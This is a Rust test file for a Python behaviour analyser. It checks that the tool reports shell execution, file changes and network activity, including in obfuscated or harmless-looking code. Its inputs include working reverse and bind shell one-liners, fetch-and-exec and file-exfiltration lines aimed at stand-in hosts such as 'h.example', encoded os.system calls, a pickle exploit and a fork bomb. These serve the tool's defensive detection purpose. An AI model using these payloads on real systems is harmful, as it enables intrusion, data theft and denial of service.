//! Python.

use super::check;

#[test]
fn commands_are_found_in_every_spelling() {
    check(&[
        ("import os; os.system('id')", &["shell id"]),
        ("import os as o\no.system('id')", &["shell id"]),
        ("from os import system as s; s(\"id\")", &["shell id"]),
        ("from os import *\nsystem('id')", &["shell id"]),
        ("__import__('os').system('id')", &["shell id"]),
        ("getattr(__import__('os'), 'sys'+'tem')('id')", &["shell id"]),
        ("import importlib; importlib.import_module('os').popen('id').read()", &["shell id"]),
        ("__builtins__.__dict__['eval']('1+1')", &[]),
        ("import sys; sys.modules['os'].system('id')", &["shell id"]),
        ("import subprocess\nsubprocess.run(['ls', '-l'])", &["argv ls|-l"]),
        ("import subprocess as sp\nsp.check_output('ls | wc', shell=True)", &["shell ls | wc"]),
        ("import subprocess; subprocess.Popen([\"sh\", \"-c\", \"id\"])", &["argv sh|-c|id"]),
        ("import os; os.execl('/bin/sh', 'sh', '-p')", &["argv /bin/sh|-p"]),
        ("import os; os.execv('/bin/bash', ['bash', '-i'])", &["argv /bin/bash|-i"]),
        ("import os; os.spawnlp(os.P_WAIT, 'ls', 'ls', '/')", &["argv ls|/"]),
        ("import pty; pty.spawn('/bin/zsh')", &["argv /bin/zsh"]),
        ("import pty; pty.spawn(['/bin/sh', '-i'])", &["argv /bin/sh|-i"]),
        ("x = 'ca'\nx += 't /etc/hosts'\nimport os; os.system(x)", &["shell cat /etc/hosts"]),
        ("import os\nos.system(f'cat {\"/etc\"}/hosts')", &["shell cat /etc/hosts"]),
        ("import os\nos.system('cat %s/%s' % ('/etc', 'hosts'))", &["shell cat /etc/hosts"]),
        (
            "import os\nos.system('cat {}/{name}'.format('/etc', name='hosts'))",
            &["shell cat /etc/hosts"],
        ),
        ("import os; os.system(' '.join(['rm', '-r', 'x']))", &["shell rm -r x"]),
        ("import os; os.system(''.join(map(chr, [105, 100])))", &["shell id"]),
        ("import os; os.system(''.join(chr(c) for c in [105, 100]))", &["shell id"]),
        ("import os; os.system(''.join([chr(c-1) for c in (106, 101)]))", &["shell id"]),
        ("import os; os.system('di'[::-1])", &["shell id"]),
        (
            "import os,base64; os.system(base64.b64decode('dW5hbWUgLWE=').decode())",
            &["shell uname -a"],
        ),
        ("import os; os.system(bytes.fromhex('756e616d65').decode())", &["shell uname"]),
        ("import os,codecs; os.system(codecs.decode('hanzr', 'rot13'))", &["shell uname"]),
        ("exec('import os')", &[]),
        ("exec(\"\"\"a=1\nb=2\"\"\")", &[]),
        ("exec 'print 1'", &["print 1\n"]),
        ("import base64 as b\nexec(b.b64decode(b'cHJpbnQoMSk='))", &["print 1\n"]),
        (
            "import zlib,base64;exec(zlib.decompress(base64.b64decode('eJwrKMrMK9FQL0hMzk5NUdcEAC0KBTU=')))",
            &["print packed\n"],
        ),
        ("exec(open('/srv/x.py').read())", &["read /srv/x.py", "script python /srv/x.py"]),
        (
            "with open('setup.py') as f: exec(f.read())",
            &["read setup.py", "script python setup.py"],
        ),
        ("import os,sys; os.system(sys.argv[1])", &["shell first-arg"]),
        ("import os; os.system(os.environ['TARGET'])", &["shell /srv/data.bin"]),
        ("import os; os.system(os.environ['NOPE'])", &["hidden"]),
        ("import os; os.system('echo ' + input())", &["shell echo ‹input›"]),
        ("for c in ['id', 'who']:\n    __import__('os').system(c)", &["shell id", "shell who"]),
        ("import os\n[os.system(c) for c in ('id', 'who')]", &["shell id", "shell who"]),
        ("def run(c):\n    import os\n    os.system(c)\nrun('id')\n", &["shell id"]),
        ("run = lambda c: __import__('os').system(c)\nrun('id')", &["shell id"]),
        ("import os\nos.popen('id')if True else None", &["shell id"]),
        ("import os;os.system('''multi\nline''')", &["shell multi\nline"]),
        ("import os;\\\nos.system('id')", &["shell id"]),
        ("import asyncio; asyncio.run(asyncio.create_subprocess_shell('id'))", &["shell id"]),
        (
            "import sys\nif sys.version_info.major == 3: import os as o\nelse: import os as o\no.system('id')",
            &["shell id"],
        ),
    ]);
}

#[test]
fn the_mode_decides_whether_a_file_is_written() {
    check(&[
        ("print(open('/etc/hosts').read())", &["read /etc/hosts"]),
        ("open('/tmp/x','w').write('DATA')", &["write /tmp/x <- DATA"]),
        ("open('/tmp/x','ab').write(b'DATA')", &["append /tmp/x <- DATA"]),
        (
            "f = open('/tmp/x', mode='w')\nf.write('a')\nf.write('b')\nf.close()",
            &["write /tmp/x <- ab"],
        ),
        ("with open('/tmp/x', 'w') as f:\n    f.write('a')", &["write /tmp/x <- a"]),
        ("from pathlib import Path\nPath('/etc/hosts').read_text()", &["read /etc/hosts"]),
        (
            "import pathlib; (pathlib.Path('/etc') / 'motd').write_text('hi')",
            &["write /etc/motd <- hi"],
        ),
        ("import os; os.remove('/tmp/x')", &["delete /tmp/x"]),
        ("import shutil; shutil.rmtree('/srv/www')", &["tree /srv/www"]),
        ("import shutil; shutil.copy('/etc/hosts', '/tmp/h')", &["copy /etc/hosts -> /tmp/h"]),
        ("import os; os.chmod('/tmp/b', 0o4755)", &["mode 4755 /tmp/b"]),
        ("import os; os.chown('/tmp/b', 0, 0)", &["owner 0:0 /tmp/b"]),
        ("import os; print(os.listdir('/root'))", &["list /root"]),
        ("import os; os.open('/tmp/z', os.O_WRONLY|os.O_CREAT)", &["write /tmp/z <- "]),
        ("import os; os.setuid(0); os.system('id')", &["user 0", "shell id"]),
        ("import os; os.environ['LD_PRELOAD'] = './x.so'", &["setenv LD_PRELOAD=./x.so"]),
        ("from ctypes import cdll; cdll.LoadLibrary('./x.so')", &["load ./x.so"]),
        ("import ctypes; ctypes.CDLL('./x.so')", &["load ./x.so"]),
        ("open(unknown()).read()", &[]),
    ]);
}

#[test]
fn connections_and_code_received_over_them() {
    check(&[
        (
            "import socket,os,pty;s=socket.socket();s.connect((\"peer.example\",7001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")",
            &["connect peer.example 7001", "attach", "argv sh"],
        ),
        (
            "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((os.getenv('PEER'),int(os.getenv('PORT'))))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
            &["connect peer.example 7001", "attach", "argv /bin/sh|-i"],
        ),
        (
            "import socket as k,subprocess as sp\ns=k.socket()\ns.bind(('0.0.0.0',9009));s.listen(1);c,a=s.accept()\nwhile True:\n  d=c.recv(1024).decode()\n  p=sp.Popen(d,shell=True,stdout=sp.PIPE)\n  c.sendall(p.stdout.read())",
            &["listen 0.0.0.0 9009", "received"],
        ),
        (
            "import socket\ns=socket.create_connection(('h.example', 80))\nexec(s.recv(4096))",
            &["connect h.example 80", "received"],
        ),
        (
            "import urllib.request as r; exec(r.urlopen('http://h.example/p').read())",
            &["fetch http://h.example/p", "received"],
        ),
        (
            "import requests; exec(requests.get('http://h.example/p').text)",
            &["fetch http://h.example/p", "received"],
        ),
        (
            "import urllib.request; urllib.request.urlretrieve('http://h.example/p', '/tmp/p')",
            &["fetch http://h.example/p -> /tmp/p"],
        ),
        (
            "import requests; open('/tmp/p','wb').write(requests.get('http://h.example/p').content)",
            &["write /tmp/p <- ‹received›", "fetch http://h.example/p"],
        ),
        (
            "import requests; requests.post('http://h.example', data=open('/etc/hosts').read())",
            &["read /etc/hosts", "send http://h.example <- /etc/hosts"],
        ),
        (
            "import requests; requests.post('http://h.example', files={'f': open('/etc/hosts','rb')})",
            &["read /etc/hosts", "send http://h.example <- /etc/hosts"],
        ),
        (
            "import urllib.request as r\nr.urlopen('http://h.example', open('/etc/hosts','rb').read())",
            &["read /etc/hosts", "send http://h.example <- /etc/hosts"],
        ),
        (
            "import subprocess,socket\ns=socket.socket();s.connect(('h.example',1));subprocess.Popen(['sh'],stdin=s,stdout=s)",
            &["connect h.example 1", "attach", "argv sh"],
        ),
        (
            "import http.server as s, socketserver as ss\nss.TCPServer(('', 8000), s.SimpleHTTPRequestHandler).serve_forever()",
            &["serve  "],
        ),
        ("s.send(open('/etc/hosts').read())", &["read /etc/hosts"]),
        (
            "import socket\ns=socket.socket();s.connect(('h.example',9));s.send(open('/etc/hosts','rb').read())",
            &["connect h.example 9", "read /etc/hosts", "send h.example:9 <- /etc/hosts"],
        ),
        ("import os\nwhile True: os.fork()", &["exhaust"]),
        ("import os\nwhile 1:\n    os.fork()\n", &["exhaust"]),
    ]);
}

#[test]
fn harmless_look_alikes_give_nothing() {
    check(&[
        ("print(\"os.system('rm')\")", &["print os.system('rm')\n"]),
        ("# os.system('rm')", &[]),
        ("x = 1  # os.system('rm -rf /')\n", &[]),
        ("import json,sys; print(json.load(sys.stdin)['a'])", &[]),
        ("import json,sys; d=json.load(sys.stdin); print(d.get('system'))", &[]),
        ("import re; re.compile('exec')", &[]),
        ("print(''.join(['a','b']))", &["print ab\n"]),
        ("import sys; print(sys.version)", &[]),
        ("import os; print(os.getcwd())", &[]),
        ("print(2**10)", &["print 1024\n"]),
        ("class A:\n    def exec(self): pass\nA()", &[]),
        ("import sqlite3; sqlite3.connect('x.db')", &["read x.db"]),
        ("def system(x): return x\nsystem('id')", &[]),
        ("def run(cmd):\n    import subprocess\n    return subprocess.run(cmd)\n", &[]),
        ("import os\nif os.fork() == 0: print('child')", &[]),
        ("import base64;print(base64.b64decode('aGVsbG8=').decode())", &["print hello\n"]),
        ("print('a', 'b', sep='-', end='')", &["print a-b"]),
        ("import random; print(random.choice(['a', 'b']))", &[]),
        ("import http.client", &[]),
        ("data = {'system': 'x', 'exec': 'y'}\nprint(data['exec'])", &["print y\n"]),
        ("print(open('data.csv').read().count('x'))", &["read data.csv"]),
        ("'''os.system(\"id\")'''", &[]),
        ("import xml.etree.ElementTree as E; E.parse('a.xml')", &["read a.xml"]),
    ]);
}

#[test]
fn values_pass_through_functions_listings_and_content() {
    check(&[
        ("(lambda f: f('id'))(__import__('os').system)", &["shell id"]),
        (
            "import socket,os,threading\ndef h(c):\n  while True:\n    d=c.recv(99)\n    os.popen(d.decode())\ns=socket.socket();s.bind(('',99))\nwhile True:\n  c,a=s.accept()\n  threading.Thread(target=h,args=(c,)).start()",
            &["listen  99", "received"],
        ),
        (
            "import os\nclass A:\n  def __reduce__(self): return (os.system,('id',))\n",
            &["shell id"],
        ),
        ("def a(x):\n  b(x)\ndef b(x):\n  a(x)\na(1)", &[]),
        (
            "import os\nclass A:\n    def run(self, c):\n        os.system(c)\nA().run('id')",
            &["shell id"],
        ),
    ]);
    check(&[
        (
            "import glob,os\nfor f in glob.glob('/srv/log/*'): os.remove(f)",
            &["list /srv/log/*", "delete /srv/log/*"],
        ),
        (
            "import os, shutil\nfor d in os.listdir('/srv'): shutil.rmtree(os.path.join('/srv', d))",
            &["list /srv", "tree /srv/*"],
        ),
    ]);
    check(&[
        (
            "import urllib.request as r, urllib.parse as u\nr.urlopen('http://h.example', u.urlencode({'d': open('/etc/hosts').read()}).encode())",
            &["read /etc/hosts", "send http://h.example <- /etc/hosts"],
        ),
        (
            "import json,urllib.request\nd=json.load(urllib.request.urlopen('https://h.example/x'))\nprint(d['a'])",
            &["fetch https://h.example/x"],
        ),
        (
            "import subprocess\np=subprocess.Popen(['bash'],stdin=subprocess.PIPE)\np.communicate(b'id\\n')",
            &["argv bash", "shell id\n"],
        ),
    ]);
}
